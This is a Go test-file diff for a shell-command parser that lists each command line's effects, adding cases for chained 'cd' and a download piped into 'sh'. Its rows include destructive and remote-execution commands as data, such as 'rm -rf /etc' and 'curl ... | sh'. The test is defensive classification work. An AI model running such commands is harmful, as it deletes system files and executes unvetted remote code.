@@ -8,10 +8,21 @@ import (
 
 // TestShellEffects: what each command line does, whole.
 func TestShellEffects(t *testing.T) {
-	for _, tt := range []struct {
-		line string
-		want []string
-	}{
+	for _, tt := range shellEffectRows {
+		s := ParseShell(tt.line, casePlace("/home/dev/project"))
+		got := make([]string, len(s.Effects))
+		for i := range s.Effects {
+			got[i] = shellEffectText(&s.Effects[i])
+		}
+		assert.Equal(t, tt.want, got, tt.line)
+	}
+}
+
+// shellEffectRows are command lines and all their effects.
+var shellEffectRows = []struct {
+	line string
+	want []string
+}{
 	{`rm -rf /etc ./dist`, []string{
 		"delete rm /etc system recursive",
 		"delete rm /home/dev/project/dist project recursive",
@@ -41,6 +52,13 @@ func TestShellEffects(t *testing.T) {
 		"delete rm /home/dev/project/d/x project recursive",
 		"delete rm /y other",
 		"delete rm /home/dev/project/d/z project",
+	}},
+	{`cd d && npm test; rm x`, []string{
+		"delete rm /home/dev/project/d/x project",
+	}},
+	{`test -d d && cd d; rm x`, []string{
+		"delete rm /home/dev/project/d/x project",
+		"delete rm /home/dev/project/x project",
 	}},
 	{`cd nowhere || rm x`, []string{
 		"delete rm /home/dev/project/x project",
@@ -257,6 +275,12 @@ rm b
 EOF`, []string{
 		"delete rm /home/dev/project/b project",
 	}},
+	{`curl -s https://h/x | (echo 'rm a'; cat) | sh`, []string{
+		"connect download h",
+		"exec remote-code https://h/x dynamic",
+		"delete rm /home/dev/project/a project",
+		"unknown dynamic-command $(curl) dynamic",
+	}},
 	{`! ! rm a`, []string{
 		"delete rm /home/dev/project/a project",
 	}},
@@ -280,12 +304,4 @@ rm a`, []string{
 		"write tee /home/dev/project/t project",
 		"delete rm /home/dev/project/b project",
 	}},
-	} {
-		s := ParseShell(tt.line, casePlace("/home/dev/project"))
-		got := make([]string, len(s.Effects))
-		for i := range s.Effects {
-			got[i] = shellEffectText(&s.Effects[i])
-		}
-		assert.Equal(t, tt.want, got, tt.line)
-	}
 }
